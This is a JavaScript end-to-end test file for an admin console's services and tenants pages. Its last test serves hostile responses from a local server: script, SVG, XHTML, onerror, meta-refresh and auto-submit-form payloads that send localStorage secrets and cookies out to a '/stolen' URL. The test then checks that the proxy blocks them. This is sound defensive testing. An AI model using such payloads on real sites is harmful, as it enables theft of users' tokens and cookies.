// The page of services, the keeping of tenants, and what a hostile service can do to who opens its answers: nothing.
import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import http from 'node:http';
import { test } from 'node:test';
import { at, auditReady, eventually, none, setup, shared, tooWide } from './fixture.mjs';

const s = setup();
const params = (page) => new URLSearchParams(new URL(page.url()).hash.split('?')[1]);

test('services: health and figures, from there to the calls', async () => {
  for (const path of ['/svc/sample/v1/items', '/svc/sample/v1/items/1', '/svc/sample/v1/items/nothing'])
    await (await s.server.call(s.server.admin, path)).arrayBuffer();
  await at('#/services', async (page) => {
    const row = page.locator('tr:has(a:text-is("sample"))');
    await row.locator('text=Healthy').waitFor();
    await eventually('figures of the calls', async () => /\d/.test(await row.locator('[data-label=RPM]').textContent()));
    await row.locator('a').click();
    await page.waitForSelector('.drawer .service-routes');
    assert.match(await page.textContent('.drawer'), /\/svc\/sample\/v1\/items\/:id\/retire.*sample:write · needs a reason/s);
    await page.click('.drawer >> text="Its calls"');
    assert.ok((await auditReady(page)) >= 3);
    assert.equal(params(page).get('service'), 'sample');
    await page.goBack();
    await page.click('.drawer .service-routes a >> nth=1');
    await auditReady(page);
    assert.equal(params(page).get('route'), 'GET /svc/sample/v1/items');
  });
  // Who may read nothing of it does not see it, and figures need logs:read.
  await at(
    '#/services',
    async (page) => {
      await page.waitForSelector('tr:has(a:text-is("argus"))');
      assert.equal(await page.locator('tr:has(a:text-is("sample"))').count(), 0);
      assert.match(await page.textContent('.main'), /Figures need the scope logs:read/);
    },
    { token: s.server.tenants },
  );
});

for (const width of [375, 1440])
  test(`services and tenants fit into ${width} pixels`, () =>
    at(
      '#/services?service=sample',
      async (page) => {
        for (const [place, ready] of [
          ['#/services', 'table'],
          ['#/services?service=sample', '.drawer .service-routes'],
          ['#/tenants?retired=1', 'table'],
        ]) {
          await page.evaluate((hash) => (location.hash = hash), place);
          await page.waitForSelector(ready);
          await none(`${place} sticks out`, () => tooWide(page));
        }
      },
      { viewport: { width, height: 900 } },
    ));

test('tenants: added, changed, consented, retired and brought back', () =>
  at('#/tenants', async (page) => {
    const id = `UTD_CONSOLE_${Date.now()}`;
    const submit = page.locator('dialog button[type=submit]');
    const gone = () => page.waitForSelector('dialog', { state: 'detached' });
    await page.click('button:has-text("Add")');
    await page.fill('dialog input >> nth=0', 'not an id');
    await page.fill('dialog input >> nth=1', 'Console Store');
    await page.fill('dialog input >> nth=2', '7');
    await page.fill('dialog input >> nth=3', 'new customer');
    assert.ok(await submit.isDisabled(), 'an id has no blanks');
    await page.fill('dialog input >> nth=0', id);
    const [sent] = await Promise.all([page.waitForRequest((r) => r.method() === 'PUT'), submit.click()]);
    assert.deepEqual(sent.postDataJSON(), { name: 'Console Store', agents: 7, reason: 'new customer' });
    assert.ok(sent.headers()['idempotency-key']);
    await gone();
    const row = page.locator(`tr:has-text("${id}")`);
    await row.locator('text=no consent on record').waitFor();
    await row.locator('a').click();
    const drawer = page.locator('.drawer');
    await drawer.locator('button:text-is("Change")').click();
    await page.fill('dialog input >> nth=1', 'Console Store Two');
    await page.fill('dialog input >> nth=3', 'it moved');
    await submit.click();
    await gone();
    await row.locator('text=Console Store Two').waitFor();
    await drawer.locator('button:has-text("Record consent")').click();
    await page.fill('dialog input >> nth=0', `DOC-${id}`);
    await page.fill('dialog input >> nth=1', 'signed on site');
    await submit.click();
    await gone();
    await drawer.locator(`text=DOC-${id}`).waitFor();
    // Who recorded the consent does not arm.
    await drawer.locator('button:has-text("Arm")').click();
    await page.fill('dialog input >> nth=0', id);
    await page.fill('dialog input >> nth=1', 'ride-along');
    await page.check('dialog input[type=checkbox]');
    await submit.click();
    await page.waitForSelector('dialog >> text=You recorded the consent');
    await page.keyboard.press('Escape');
    await gone();
    await drawer.locator('button:has-text("Retire")').click();
    await page.fill('dialog input >> nth=0', id.toLowerCase());
    await page.fill('dialog input >> nth=1', 'closed');
    assert.ok(await submit.isDisabled(), 'the id must be typed exactly');
    await page.fill('dialog input >> nth=0', id);
    await submit.click();
    await gone();
    await row.waitFor({ state: 'detached' });
    await page.keyboard.press('Escape');
    await page.check('text=Retired too');
    await row.locator('text=Retired').waitFor();
    assert.equal(await row.locator('button').count(), 0, 'a retired tenant is not armed');
    await row.locator('a').click();
    await drawer.locator('button:has-text("Bring back")').click();
    await page.fill('dialog input >> nth=3', 'opens again');
    await submit.click();
    await gone();
    await row.locator('text=Disarmed').waitFor();
  }));

test('a hostile service’s answers run no script and reach nothing of the console’s', async () => {
  const file = s.server.services;
  const before = await readFile(file, 'utf8');
  const heard = [];
  const script = (what) =>
    `try { fetch('${'ORIGIN'}/stolen?${what}=' + encodeURIComponent(localStorage.getItem('argus-secret') + document.cookie)) } catch (e) { fetch('${'ORIGIN'}/ran?${what}') }; document.title = 'owned';`;
  const answers = {
    '/html': ['text/html', (o) => `<!doctype html><title>page</title><script>${o}</script><img src=x onerror="${o.replaceAll('"', '&quot;')}">`],
    '/svg': ['image/svg+xml', (o) => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${o}]]></script></svg>`],
    '/xhtml': ['application/xhtml+xml', (o) => `<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${o}]]></script></body></html>`],
    '/sniffed': ['text/plain', (o) => `<!doctype html><script>${o}</script>`],
    '/unnamed': [null, (o) => `<!doctype html><script>${o}</script>`],
    '/refresh': ['text/html', () => `<meta http-equiv="refresh" content="0;url=javascript:document.title='owned'"><body>refresh`],
    '/form': ['text/html', () => `<form id=f action="/v1/tokens" method=post></form><script>document.forms[0].submit()</script>`],
  };
  const evil = http.createServer((request, response) => {
    const { pathname } = new URL(request.url, 'http://x');
    heard.push(request.url);
    const origin = `http://127.0.0.1:${evil.address().port}`;
    const [type, body] = answers[pathname] ?? ['text/plain', () => ''];
    if (type) response.setHeader('Content-Type', type);
    response.setHeader('Set-Cookie', 'stolen=1');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Content-Security-Policy', "sandbox allow-scripts allow-same-origin; default-src * 'unsafe-inline'");
    response.setHeader('Service-Worker-Allowed', '/');
    response.setHeader('Refresh', '0;url=javascript:1');
    response.setHeader('Clear-Site-Data', '"*"');
    response.end(body(script(pathname.slice(1)).replaceAll('ORIGIN', origin)));
  });
  await new Promise((resolve) => evil.listen(0, '127.0.0.1', resolve));
  const routes = Object.keys(answers).map((path) => `      - {route: "GET ${path}", scope: "sample:read"}`);
  const declared = `  - name: evil\n    upstream: http://127.0.0.1:${evil.address().port}\n    routes:\n${routes.join('\n')}\n`;
  await writeFile(file, `${before.trimEnd()}\n${declared}`); // the services stand last
  const context = await shared.browser.newContext();
  try {
    await eventually('the service is taken up', async () => (await s.server.call(s.server.admin, '/svc/evil/html')).status === 200);
    await context.route('**/svc/evil/**', (route) => route.continue({ headers: { ...route.request().headers(), authorization: `Bearer ${s.server.admin}` } }));
    const page = await context.newPage();
    await page.goto(`${s.server.url}/livez`);
    await page.evaluate(() => localStorage.setItem('argus-secret', 'the token'));
    for (const path of Object.keys(answers)) {
      const answer = await page.goto(`${s.server.url}/svc/evil${path}`).catch(() => null); // a download is as good
      await page.waitForTimeout(200);
      const headers = answer ? await answer.allHeaders() : {};
      for (const name of ['set-cookie', 'access-control-allow-origin', 'service-worker-allowed', 'clear-site-data', 'refresh'])
        assert.equal(headers[name], undefined, `${path}: the header ${name} was passed on`);
      assert.notEqual(await page.title(), 'owned', `${path} ran a script`);
      assert.equal(new URL(page.url()).origin === s.server.url || page.url() === 'about:blank', true, `${path} went to ${page.url()}`);
    }
    await page.goto(`${s.server.url}/livez`);
    assert.equal(await page.evaluate(() => localStorage.getItem('argus-secret')), 'the token');
    assert.deepEqual(await context.cookies(), []);
    assert.deepEqual(
      heard.filter((url) => /stolen|ran/.test(url)),
      [],
      'scripts ran',
    );
  } finally {
    await context.close();
    await writeFile(file, before);
    evil.closeAllConnections();
    await new Promise((resolve) => evil.close(resolve));
  }
});
